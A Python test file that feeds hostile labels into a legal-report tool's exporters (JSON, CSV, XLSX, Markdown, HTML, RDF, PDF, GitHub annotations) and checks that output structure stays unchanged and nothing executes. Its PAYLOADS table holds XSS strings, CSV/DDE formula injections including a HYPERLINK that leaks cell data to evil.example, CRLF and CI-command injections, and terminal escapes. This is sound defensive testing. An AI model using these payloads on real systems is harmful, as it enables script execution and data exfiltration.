"""Hostile labels change the structure of no format, and come out of each as text.

Every format is read back by a reader that is not ours: a parser of JSON, CSV, XML, workbooks,
Markdown, RDF or HTML. What it sees of a report full of hostile labels must be built as it is with
harmless ones; a format without a reader here fails the first test.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Callable, Generator, Hashable, Mapping
from dataclasses import fields, is_dataclass, replace
from datetime import date
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING, Any, NamedTuple
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from markdown_it import MarkdownIt
from pyoxigraph import RdfFormat, parse

from legalmodel.model import Report
from legalmodel.reporters import REPORTERS
from legalmodel.resources import content
from legalmodel.services.check import Question, check
from tests.reporters.html import page as html_page
from tests.reporters.html.sample import sample
from tests.reporters.test_contract import written

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

PAYLOADS = {
    "script": "<script>window.ran = 1</script>",
    "end of the block": "</script></style></title><img src=x onerror='window.ran = 1'>",
    "attribute": "\" onmouseover='window.ran = 1' autofocus onfocus=window.ran=1 x='",
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "other formulas": "+1+cmd|' /C calc'!A0 @SUM(1) -1",
    "address": "javascript:window.ran=1",
    "reordering": "\u202eevil\u2066",
    "null": "\x00\x01",
    "half of a character": "\ud800",
    "emoji": "\U0001f9e8\u200d\U0001f525",
    "newline": "\n\n# heading\n\n- list\n",
    "carriage return": "\r\nX-Injected: 1\r",
    "end of a section": "]]> --> ?> <!-- <![CDATA[",
    "command": "\n::error file=x::evil%0A::stop-commands::x",
    "bar": "| a | b |\n|---|---|\n| c | d |",
    "backticks": "``` `x` ~~~ ***b*** [a](javascript:alert(1)) ![i](http://evil.example/i)",
    "template": "{{ 7 * 7 }} {% include 'x' %} {0} {shown} $1 $&",
    "escape sequence": "\x1b[2J\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x9b31m",
    "line separator": "\u2028\u2029\x85\x0b\x0c",
    "quotes": '" \' \\ \\" \\u003c &lt; &#60; %3C',
    "turtle": '" . <x:a> <x:b> <x:c> . """ \\',
}
# What people read. The rest are identifiers, days and members of closed lists.
_FREE = frozenset(
    {
        "title", "focus_label", "message", "explanation", "text", "legal_basis", "source", "remedy",
        "locator", "quotation", "attributed_to", "statement", "doubt", "author", "addressee",
        "label", "citation", "excerpt", "profile_title", "reason", "actors", "matched", "missing",
        "participants", "natures", "notes", "responsible", "comment", "stub", "description",
        "template", "rationale", "limits", "file", "path", "by_actor",
    }
)  # fmt: skip
_HARMLESS = "harmless"


def spoilt(value: Any, payload: str, free: bool = False) -> Any:
    """A report in which the payload stands at the end of everything that people read."""
    if isinstance(value, str):
        return f"{value}z{payload}z" if free and value else value
    if isinstance(value, tuple):
        return tuple(spoilt(each, payload, free) for each in value)
    if isinstance(value, Mapping):
        return {
            spoilt(key, payload, free and isinstance(each, int)): spoilt(each, payload, free)
            for key, each in value.items()
        }
    if not is_dataclass(value) or isinstance(value, type):
        return value
    told = {each.name: getattr(value, each.name) for each in fields(value)}
    return replace(
        value, **{name: spoilt(each, payload, name in _FREE) for name, each in told.items()}
    )


class Seen(NamedTuple):
    """What a reader sees: how the file is built, and every text in it."""

    structure: Hashable
    text: str


def _json(data: bytes) -> Seen:
    texts: list[str] = []

    def built(value: Any) -> Hashable:
        if isinstance(value, dict):
            # A name that is a text of the report counts as any other text.
            texts.extend(value)
            return ("object", *(built(each) for each in value.values()))
        if isinstance(value, list):
            return ("array", *map(built, value))
        texts.append(str(value))
        return type(value).__name__

    return Seen(built(json.loads(data)), "\n".join(texts))


def _csv(data: bytes) -> Seen:
    csv.field_size_limit(10_000_000)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r")]
    return Seen(tuple(map(len, rows)), "\n".join(cells))


def _xlsx(data: bytes) -> Seen:
    book = openpyxl.load_workbook(io.BytesIO(data))
    built, texts = [], []
    for sheet in book.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        links = [cell.hyperlink.target or "" for cell in cells if cell.hyperlink]
        assert not [link for link in links if link and not link.startswith(("http", "#"))]
        built.append((sheet.title, sheet.dimensions, tuple(cell.data_type for cell in cells)))
        texts += [str(cell.value) for cell in cells if cell.value is not None]
    return Seen(tuple(built), "\n".join(texts))


def _xml(data: bytes) -> Seen:
    root = ET.fromstring(data)
    built = tuple((each.tag, *sorted(each.attrib)) for each in root.iter())
    texts = [text for each in root.iter() for text in (each.text, each.tail, *each.attrib.values())]
    return Seen(built, "\n".join(filter(None, texts)))


def _markdown(data: bytes) -> Seen:
    tokens = MarkdownIt("commonmark").enable("table").parse(data.decode())
    inner = [inside for token in tokens for inside in (token, *(token.children or ()))]
    spoken = {"text", "softbreak", "text_special"}
    built = tuple(token.type for token in inner if token.type not in spoken)
    for token in inner:
        assert not str(token.attrGet("href") or "").lower().startswith(("javascript", "data"))
        if token.type in ("html_inline", "html_block"):
            assert not re.search(r"<(script|img|style)|\bon\w+\s*=", token.content, re.IGNORECASE)
    return Seen(built, "".join(token.content for token in inner if not token.children))


def _github(data: bytes) -> Seen:
    lines = data.decode().splitlines()
    # A line of its own for each command: workflows read line by line.
    commands = [re.match(r"::(error|warning|notice)(?: [^:]*)?::|(?!::)", line) for line in lines]
    assert all(commands)
    built = tuple(match.group(1) for match in commands if match)
    return Seen(built, data.decode())


def _text(data: bytes) -> Seen:
    text = data.decode()
    assert not set(text) & ({chr(code) for code in (*range(32), *range(127, 160))} - {"\n"})
    assert not set(text) & set("\u2028\u2029\u202e\u2066")
    return Seen((), text)


def _rdf(form: RdfFormat) -> Callable[[bytes], Seen]:
    def seen(data: bytes) -> Seen:
        quads = list(parse(data, format=form))
        built = tuple(sorted(str(quad.predicate) for quad in quads))
        return Seen(built, "\n".join(getattr(quad.object, "value", "") for quad in quads))

    return seen


def _html(data: bytes) -> Seen:
    page = html_page.parse(data.decode())
    built = tuple((node.tag, *sorted(node.attributes)) for node in page.walk())
    for node in page.walk():
        target = node.attributes.get("href", "#")
        assert target.startswith(("#", "http://", "https://")) or target == "data:,"
    return Seen(built, page.text())


def _pdf(data: bytes) -> Seen:
    from pypdf import PdfReader

    pages = PdfReader(io.BytesIO(data)).pages
    for page in pages:
        for each in page.get("/Annots") or ():
            action = each.get_object().get("/A")
            assert action is None or action["/S"] != "/JavaScript"
            assert action is None or str(action.get("/URI", "http")).startswith("http")
    return Seen((), "\n".join(page.extract_text() for page in pages))


READERS: dict[str, Callable[[bytes], Seen]] = {
    "text": _text,
    "json": _json,
    "sarif": _json,
    "html": _html,
    "pdf": _pdf,
    "csv": _csv,
    "xlsx": _xlsx,
    "md": _markdown,
    "junit": _xml,
    "github": _github,
    "shacl": _rdf(RdfFormat.TURTLE),
    "shacl-ntriples": _rdf(RdfFormat.N_TRIPLES),
    "shacl-jsonld": _rdf(RdfFormat.JSON_LD),
}
# It is laid out from the HTML, which takes seconds: once, with everything.
_SLOW = {"pdf"}
FORMATS = sorted(set(REPORTERS) - _SLOW)


@cache
def short() -> Report:
    report = sample()
    return replace(report, findings=report.findings[:4], rules=report.rules[-3:])


@cache
def harmless(name: str) -> Seen:
    return READERS[name](written(name, spoilt(short(), _HARMLESS)))


def test_every_format_has_a_reader() -> None:
    assert set(READERS) == set(REPORTERS)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
@pytest.mark.parametrize("name", FORMATS)
def test_a_hostile_label_builds_nothing_and_is_told(name: str, payload: str) -> None:
    seen = READERS[name](written(name, spoilt(short(), payload)))
    assert seen.structure == harmless(name).structure
    # Nothing is swallowed: each text is there as often as with harmless labels.
    for finding in short().findings:
        start = f"{finding.title}z"
        assert seen.text.count(start) == harmless(name).text.count(start)


@pytest.mark.parametrize("name", FORMATS)
def test_letters_of_a_hostile_label_come_out(name: str) -> None:
    label = "a<b>\"c'&d"
    report = short()
    finding = replace(report.findings[0], title=label, message=label, focus_label=label)
    seen = READERS[name](written(name, replace(report, findings=(finding,), stated_gaps=())))
    # Markdown keeps what looks like the name of a character apart by a space without width.
    assert label in html.unescape(seen.text.replace("\u200b", ""))


@pytest.mark.parametrize("name", FORMATS)
def test_a_label_of_a_megabyte_is_borne(name: str) -> None:
    report = short()
    long = "long " * 200_000
    finding = replace(report.findings[0], focus_label=long, message=long)
    seen = READERS[name](written(name, replace(report, findings=(finding, *report.findings[1:]))))
    assert report.findings[1].id in seen.text


def test_all_of_it_at_once_on_paper() -> None:
    pytest.importorskip("weasyprint")
    report = spoilt(short(), "".join(PAYLOADS.values()))
    told = _pdf(written("pdf", report)).text.replace("\x00", "")
    assert "javascript:window.ran=1" in "".join(told.split())


# In a real browser.


@pytest.fixture
def page(browser: Browser) -> Generator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


_BUILT = """() => [...document.querySelectorAll("*")].map(
    (node) => [node.tagName, ...[...node.attributes].map((each) => each.name).sort()].join(" "))"""


def _opened(page: Page, file: Path, report: Report) -> list[str]:
    file.write_bytes(written("html", report))
    page.goto(file.as_uri())
    page.wait_for_timeout(400)
    built: list[str] = page.evaluate(_BUILT)
    return built


@pytest.mark.slow
def test_a_browser_builds_the_same_page_and_runs_nothing(page: Page, tmp_path: Path) -> None:
    happened: list[str] = []
    page.on("request", lambda request: happened.append(request.url))
    page.on("dialog", lambda dialog: happened.append(dialog.message))
    page.on("console", lambda message: happened.append(message.text))
    page.on("popup", lambda popup: happened.append(popup.url))
    payload = "".join(PAYLOADS.values())
    plain = _opened(page, tmp_path / "plain.html", spoilt(short(), _HARMLESS))
    hostile = _opened(page, tmp_path / "hostile.html", spoilt(short(), payload))
    assert hostile == plain
    files = [(tmp_path / name).as_uri() for name in ("plain.html", "hostile.html")]
    assert [each for each in happened if not each.startswith("data:")] == files
    assert page.evaluate("window.ran === undefined")
    leads = page.eval_on_selector_all("a", "links => links.map((link) => link.protocol)")
    assert set(leads) <= {"file:", "http:", "https:"}
    for place in range(page.locator("#register a[href^='#']").count()):
        page.locator("#register a[href^='#']").nth(place).dispatch_event("click")
        assert page.url.split("#")[0] == files[1]


# From a file, through everything.


def _turtle(payload: str) -> str:
    """Three statements without a roadmap; every label of theirs ends in the payload."""
    path = content("shapes") / "gaps" / "implementation" / "statement-without-roadmap" / "fail.ttl"
    example = path.read_text(encoding="utf-8")
    ascii_only = json.dumps(payload).replace("\\/", "/")[1:-1]
    expected = re.compile(r"^ex:example a lm:Example.*?\.\n\n", re.DOTALL | re.MULTILINE)
    return re.sub(r'"@en', lambda _: f'z{ascii_only}z"@en', expected.sub("", example))


# A file of RDF can hold no half of a character, and what follows is a pair in JSON's escapes.
_IN_FILES = "".join(
    p for name, p in PAYLOADS.items() if name not in ("half of a character", "emoji")
)


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Report]:
    folder = tmp_path_factory.mktemp("hostile")
    reports = {}
    for name, payload in (("plain", _HARMLESS), ("hostile", _IN_FILES)):
        file = folder / "case.ttl"
        file.write_text(_turtle(payload), encoding="utf-8")
        question = Question(as_of=date(2021, 12, 31), selected=("LM101",), explained=True)
        reports[name] = check([str(file)], question)
    return reports


def test_a_hostile_file_gives_the_findings_of_a_harmless_one(checked: dict[str, Report]) -> None:
    plain, hostile = checked["plain"], checked["hostile"]
    assert len(plain.findings) == 5
    assert [f.id for f in hostile.findings] == [f.id for f in plain.findings]
    assert all("<script>" in f.focus_label for f in hostile.findings)


@pytest.mark.parametrize("name", FORMATS)
def test_a_hostile_file_builds_nothing_in_any_format(name: str, checked: dict[str, Report]) -> None:
    plain, hostile = (READERS[name](written(name, checked[each])) for each in ("plain", "hostile"))
    assert hostile.structure == plain.structure
